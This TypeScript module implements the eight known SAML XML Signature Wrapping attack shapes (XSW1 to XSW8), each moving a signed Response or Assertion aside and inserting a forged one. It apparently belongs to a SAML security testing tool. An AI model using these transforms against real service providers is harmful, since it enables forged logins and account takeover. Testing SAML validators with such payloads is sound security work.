/** Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the signed element moves away, a forged one takes its place. */
export interface WrappingShape {
  readonly name: string;
  readonly signed: 'assertion' | 'response';
  readonly wrap: (xml: string, forge: (element: string) => string) => string;
}

const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s;
const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s;
const matchOf = (xml: string, pattern: RegExp) => pattern.exec(xml)?.[0] ?? '';
const withoutSignature = (element: string) => element.replace(signaturePattern, '');
const withObject = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);
const afterIssuer = (element: string, insertion: string) => element.replace('</saml:Issuer>', () => `</saml:Issuer>${insertion}`);

function onResponse(name: string, wrap: (forged: string, original: string, signature: string) => string): WrappingShape {
  return {
    name,
    signed: 'response',
    wrap: (xml, forge) => {
      const original = withoutSignature(xml);
      return wrap(forge(original), original, matchOf(xml, signaturePattern));
    },
  };
}

function onAssertion(name: string, wrap: (forged: string, assertion: string, signature: string) => string): WrappingShape {
  return {
    name,
    signed: 'assertion',
    wrap: (xml, forge) => {
      const assertion = matchOf(xml, assertionPattern);
      return xml.replace(assertion, () => wrap(forge(withoutSignature(assertion)), assertion, matchOf(assertion, signaturePattern)));
    },
  };
}

export const wrappingShapes: readonly WrappingShape[] = [
  onResponse('XSW1: the Response inside its own Signature', (forged, original, signature) =>
    afterIssuer(forged, withObject(signature, original)),
  ),
  onResponse('XSW2: the Response before its Signature', (forged, original, signature) => afterIssuer(forged, original + signature)),
  onAssertion('XSW3: the forged Assertion first', (forged, assertion) => forged + assertion),
  onAssertion('XSW4: the Assertion inside the forged one', (forged, assertion) =>
    forged.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`),
  ),
  onAssertion(
    'XSW5: the Signature in the forged Assertion',
    (forged, assertion, signature) => afterIssuer(forged, signature) + withoutSignature(assertion),
  ),
  onAssertion('XSW6: the Assertion inside the moved Signature', (forged, assertion, signature) =>
    afterIssuer(forged, withObject(signature, withoutSignature(assertion))),
  ),
  onAssertion(
    'XSW7: the forged Assertion in Extensions',
    (forged, assertion) => `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`,
  ),
  onAssertion('XSW8: the Assertion in an Object of the forged one', (forged, assertion, signature) =>
    afterIssuer(forged, withObject(signature, assertion)),
  ),
];
